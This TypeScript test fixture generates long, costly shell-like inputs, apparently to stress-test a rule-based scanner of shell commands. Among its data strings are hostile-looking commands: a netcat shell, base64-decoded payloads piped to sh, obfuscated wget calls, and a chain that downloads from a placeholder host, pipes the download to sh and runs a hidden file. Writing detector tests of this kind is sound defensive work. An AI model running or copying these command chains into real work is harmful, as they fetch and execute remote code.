import type { Rule } from "../../../lib/rules/rule.ts";

/** One shape of text that is costly to read, in any length. */
export interface HostileShape {
  readonly name: string;
  /** Makes a text of at most so many characters. */
  readonly text: (characters: number) => string;
}

/** Pieces that are repeated: every construct of a shell, whole and broken off. */
const REPEATED: readonly string[] = [
  "'",
  '"',
  "\\",
  "`",
  "$(",
  "${",
  "$((",
  "((",
  "[[",
  "(",
  "{",
  "<(",
  ">(",
  "<<",
  "<<<",
  "<<A\n",
  "|",
  "&",
  ";",
  "\n",
  " ",
  "\r",
  "\0",
  "a|",
  "a;",
  "a\n",
  "a&",
  "a&&",
  "# x\n",
  "a ",
  "1>",
  "a)",
  "'a' ",
  "a'b'c ",
  'a"b"c ',
  "a\\b ",
  "a\\\n",
  "\\\r\n",
  "\"'",
  '"`',
  '"$(',
  "$(`",
  "`$(",
  "'\\''",
  "$a ",
  "${a}",
  "${IFS}",
  "a${IFS}b ",
  "a$@b",
  "$'\\x41'",
  "$'\\x77'get ",
  "`a` ",
  "$(a) ",
  "$(a);",
  "$(echo a) ",
  '"$(echo a)" ',
  "$((1+1))",
  "$[",
  "{a,b} ",
  "{,}",
  "{a,",
  "{a,{b,c}}",
  "${a:-",
  "${a//b/c}",
  "${PATH:0:1}",
  "a=1 ",
  "a=1;",
  "a=$a$a;",
  "a+=$a;",
  "export a=1;",
  "a=(b c);",
  "a[0]=1;",
  "if a;then b;fi;",
  "if ",
  "case a in ",
  "case a in b) c;; esac;",
  "for a in b;do c;done;",
  "f(){ a;};",
  "f() ",
  "f()\n",
  "a()",
  "coproc ",
  "time ",
  "! ",
  "done;",
  "fi;",
  "esac;",
  "[[ a ]];",
  "(a);",
  "{ a;};",
  "a>b ",
  ">a ",
  "a<<A;",
  "cat <<A\nb\nA\n",
  "cat <<A\n$(a)\nA\n",
  "<<<'a' ",
  "{a}>b ",
  "sudo ",
  "sudo a;",
  "busybox ",
  "env a=1 ",
  "sh -c 'a';",
  "eval ",
  "eval 'a;b';",
  "bash -c 'sh -c \"a\"';",
  "find . -exec ",
  "find -exec a \\; ",
  "ssh a b;",
  "docker a -- ",
  "python -c 'system(\"a\")';",
  "nc -e sh a 1;",
  "echo a|",
  "echo a|sh;",
  "echo 'a b'>c;",
  "echo YQ==|base64 -d|sh;",
  "printf '\\x41\\x42'|sh;",
  "rev|",
  "tee a b c;",
  "wget a;sh b;",
  "wget http://a/b -O c;",
  "./a;",
  "crontab -;",
  "é",
  "é;",
  "\u0130;",
  "\u017f",
  "\u{1f600}",
  "\ud800",
  "/",
  "../",
  "-a ",
  "99999",
  "@(a|b)",
  "*",
];

/** What opens, what stands inside, what closes. */
const NESTED: readonly (readonly [open: string, inside: string, close: string])[] = [
  ["$(", "a", ")"],
  ["(", "a", ")"],
  ["{ ", "a", ";}"],
  ["`", "a", "`"],
  ['"$(', "a", ')"'],
  ["<(", "a", ")"],
  ["${a:-", "b", "}"],
  ["{a,", "b", "}"],
  ["$((", "1", "))"],
  ["if a;then ", "b", ";fi"],
  ["case a in b)", "c", ";; esac"],
  ["f(){ ", "a", ";}"],
  ["sh -c '", "a", "'"],
  ["echo $(", "a", ")"],
  ["a=$(", "b", ")"],
  ["$(cat <<A\n", "a", "\nA\n)"],
  ["(a|b;", "c", ")>d"],
  ["a[", "1", "]=2"],
];

/** Pieces that differ from one to the next, so that nothing can be remembered. */
const NUMBERED:
  readonly (readonly [name: string, piece: (index: number) => string, between: string])[] = [
    ["commands", (i) => `c${i} a`, ";"],
    ["words", (i) => `w${i}`, " "],
    ["pipeline", (i) => `c${i}`, "|"],
    ["variables", (i) => `v${i}=${i}`, ";"],
    ["variables of variables", (i) => `v${i}=$v${i - 1}$v${i - 1}`, ";"],
    ["downloads that run", (i) => `wget http://h/f${i};sh f${i}`, ";"],
    ["files", (i) => `echo 'a b;c'>f${i}`, ";"],
    ["a file that grows", (_) => 'echo "id;ls $a">>f', ";"],
    ["here-documents", (i) => `cat <<E${i}\nx${i} y\nE${i}`, "\n"],
    ["encoded commands", (i) => `echo ${btoa(`wget u${i}`)}|base64 -d|sh`, ";"],
    ["glued words", (i) => `w'g'e"t" u${i}`, ";"],
    ["all ways to hide", (i) => `w\\get "$(echo u${i})" \`b\` {c,d}$e`, ";"],
    ["a long value as words", (i) => i === 0 ? `a='${"b ".repeat(2_000)}'` : "echo $a", ";"],
    ["a long value as commands", (i) => i === 0 ? `a='${"b;".repeat(2_000)}'` : 'sh -c "$a"', ";"],
    ["a long value replaced", (i) => i === 0 ? `a='${"b".repeat(8_000)}'` : "c ${a//b/cc}", ";"],
    [
      "a long value reversed",
      (i) => i === 0 ? `a='${"b".repeat(8_000)}'` : "echo $a|rev|rev|sh",
      ";",
    ],
    ["brace lists", (i) => `echo {a${i},b}{c,d}{e,f}{g,h}{i,j}{k,l}`, ";"],
    ["writes of a group", (i) => `{ a;a;a;a;a;a;}>b${i}`, ";"],
    [
      "a real chain",
      (i) =>
        `cd /tmp || cd /var/run; wget http://h/x${i} -O- | sh; busybox chmod 777 .k${i}; ./.k${i}`,
      ";",
    ],
  ];

/** Shapes of texts that have been, or could be, costly to read. */
export const HOSTILE_SHAPES: readonly HostileShape[] = [
  ...REPEATED.map((piece) => ({
    name: JSON.stringify(piece),
    text: (characters: number) => piece.repeat(Math.floor(characters / piece.length)),
  })),
  ...NESTED.map(([open, inside, close]) => ({
    name: `${JSON.stringify(open + inside + close)} in itself`,
    text: (characters: number) => {
      const depth = Math.floor((characters - inside.length) / (open.length + close.length));
      return open.repeat(depth) + inside + close.repeat(depth);
    },
  })),
  ...NUMBERED.map(([name, piece, between]) => ({
    name,
    text: (characters: number) => {
      const pieces: string[] = [];
      for (let index = 0, length = 0; length < characters; index++) {
        const next = piece(index) + between;
        pieces.push(next);
        length += next.length;
      }
      return pieces.join("").slice(0, characters);
    },
  })),
  { name: "one word", text: (characters) => "a".repeat(characters) },
  { name: "one argument", text: (characters) => `wget ${"a".repeat(characters - 5)}` },
  {
    name: "one quoted argument",
    text: (characters) => `wget '${"a ".repeat((characters - 7) / 2)}'`,
  },
];

/** Texts of no order; the longer they are, the more rules find their literals in them. */
export const CHANCE_SHAPES: readonly HostileShape[] = [
  {
    name: "characters by chance",
    text: byChance(Array.from({ length: 95 }, (_, i) => String.fromCharCode(32 + i))),
  },
  {
    name: "pieces by chance",
    text: byChance([...REPEATED.filter(({ length }) => length < 9), "base64 -d", "sh "]),
  },
];

/** The same text every time: a generator of its own, by Lehmer. */
function byChance(pieces: readonly string[]): (characters: number) => string {
  return (characters) => {
    let state = 12_345;
    let text = "";
    while (text.length < characters) {
      state = state * 48_271 % 0x7fffffff;
      text += pieces[state % pieces.length];
    }
    return text.slice(0, characters);
  };
}

/** Texts of all that a set of rules looks for: each rule has to be tried in all of the text. */
export function stuffedShapes(rules: readonly Rule[]): readonly HostileShape[] {
  const literals = new Set<string>();
  for (const rule of rules) {
    for (const group of Object.values(rule.literals ?? {}).flat()) {
      for (const literal of group) literals.add(literal);
    }
  }
  return [" ", ";", "\n", " | "].map((between) => {
    const once = [...literals].join(between) + between;
    return {
      name: `literals of all rules with ${JSON.stringify(between)} between`,
      text: (characters) => once.repeat(Math.ceil(characters / once.length)).slice(0, characters),
    };
  });
}
